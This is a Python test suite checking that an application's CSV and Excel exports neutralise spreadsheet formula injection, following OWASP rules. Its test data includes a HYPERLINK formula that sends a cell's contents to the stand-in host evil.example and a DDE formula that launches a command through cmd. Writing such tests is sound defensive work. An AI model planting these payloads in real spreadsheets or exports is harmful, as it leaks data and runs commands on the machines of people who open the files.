"""CSV injection (issue 12, deliverable 7; OWASP "CSV Injection"): every file written for people
to open keeps a value that starts with = + - @ (or TAB, CR, or such a character after spaces) as
text; machine-to-machine files refuse such values instead of altering them.

The malicious values are put straight into the database: the imports now refuse them, but data
also arrives from the window and from databases filled before this release.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from app.cli import main
from app.domain.enums import Role
from app.domain.errors import RuleRefused
from app.persistence.models import NoticeRow, PersonRow
from app.services import access_log_export, clock, matching, notice_files, reporting
from app.services.imports.workforce import import_workforce
from tests.adversarial.imports_support import WF_HEADER, WF_ROWS, Force, case_row, small_force
from tests.helpers import PASSWORD, write_csv

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SHORT_PAYLOAD = '=HYPERLINK("http://e.io","x")'  # fits rank_or_grade (40)
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def force(db_url: str, tmp_path: Path) -> Iterator[Force]:
    with small_force(db_url, tmp_path) as f:
        yield f


def set_person(force: Force, staff_number: str, **values: str) -> None:
    with force.uow() as uow:
        uow.session.execute(update(PersonRow).where(PersonRow.staff_number == staff_number).values(**values))
        uow.commit()


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_queue_csv_keeps_a_formula_as_text(force: Force, db_url: str, capsys: pytest.CaptureFixture[str],
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    set_person(force, "S100", forenames=PAYLOAD)
    monkeypatch.setenv("PPDA_PASSWORD", PASSWORD)
    capsys.readouterr()
    assert main(["--db", db_url, "--user", "head", "queue", "--all", "--csv"]) == 0
    rows = read_csv(capsys.readouterr().out)
    [detail] = [r[5] for r in rows[1:] if r[1] == "RESTRICTION_DECISION"]
    assert detail == "'" + PAYLOAD + " Adams: threshold met 2026-03-03"


def test_the_match_report_keeps_a_formula_as_text(force: Force) -> None:
    with force.uow() as uow:
        uow.session.add(NoticeRow(issuing_force="kent", notice_ref="@SUM(1+1)*cmd|' /C calc'!A0",
                                  notice_date=date(2026, 1, 2),
                                  record_type="CRIME", surname="Adams", forenames="Alan",
                                  date_of_birth=date(1985, 3, 4),
                                  staff_number="S100", received_at=clock.now()))
        uow.commit()
    out = force.tmp / "matches.csv"
    matching.data_wash(force.uow(), force.sup, out)
    rows = read_csv(out.read_text(encoding="utf-8"))
    assert rows[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0" and rows[1][2] == "S100"


def test_the_access_log_export_keeps_an_imported_files_name_as_text(force: Force) -> None:
    name = "=1+2;-3,@4.csv"
    set_person(force, "S100", unit="Response B")  # so that the import changes something and is logged
    import_workforce(force.uow(), force.env.admin, write_csv(force.tmp / name, WF_HEADER, WF_ROWS[:1]))
    out = force.tmp / "log.csv"
    access_log_export.export_access_log(force.uow(), force.env.user("auditor", Role.AUDITOR), out)
    cells = [c for row in read_csv(out.read_text(encoding="utf-8")) for c in row]
    assert "'" + name in cells and name not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_workbook_stores_a_formula_looking_rank_as_text(force: Force) -> None:
    set_person(force, "S100", rank_or_grade=SHORT_PAYLOAD)
    set_person(force, "S300", rank_or_grade="#N/A")
    force.import_cases(force.head, "second.csv", case_row(case_ref="PSD-2026-000007", subject_staff_number="S300"))
    out = force.tmp / "outcomes.xlsx"
    reporting.outcome_breakdowns(force.uow(), force.head, date(2026, 1, 1), date(2026, 5, 31), out)
    wb = openpyxl.load_workbook(out)
    found = {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value in (SHORT_PAYLOAD, "#N/A")}
    assert found == {SHORT_PAYLOAD: "s", "#N/A": "s"}


def test_save_workbook_stores_every_string_as_text(tmp_path: Path) -> None:
    from app.reports.cells import save_workbook

    wb = openpyxl.Workbook()
    wb.active.append(["=1+1", "#DIV/0!", "plain", 5])
    save_workbook(wb, tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [(c.value, c.data_type) for c in ws[1]] == [("=1+1", "s"), ("#DIV/0!", "s"), ("plain", "s"), (5, "n")]


def test_every_report_workbook_is_saved_through_save_workbook() -> None:
    """A writer that calls openpyxl's save itself would store '=…' strings as formulas again."""
    offenders = [f"{p.relative_to(ROOT)}:{n}" for p in sorted((ROOT / "app").rglob("*.py")) if p.name != "cells.py"
                 for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
                 if re.search(r"\b(wb|workbook|book)\.save\(", line)]
    assert offenders == []


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("a=1", "a=1"), ("", ""), (5, 5), ("Smith", "Smith")])
def test_csv_cells_follow_the_owasp_rules(value: object, written: object) -> None:
    from app.reports.cells import csv_cell

    assert csv_cell(value) == written


def test_an_outbound_notice_file_refuses_a_formula_naming_the_record(force: Force) -> None:
    notice_files.create_signing_key(force.uow(), force.env.admin)
    set_person(force, "S100", surname=PAYLOAD)
    out = force.tmp / "to-kent.csv"
    with pytest.raises(RuleRefused) as refused:
        notice_files.export_transferee_notices(force.uow(), force.sup, "kent", ["S100"], out)
    assert ("notice west-midlands-S100-PSD-2026-000001, surname: starts with a formula character"
            in refused.value.message)
    assert not out.exists() and not notice_files.manifest_path(out).exists()
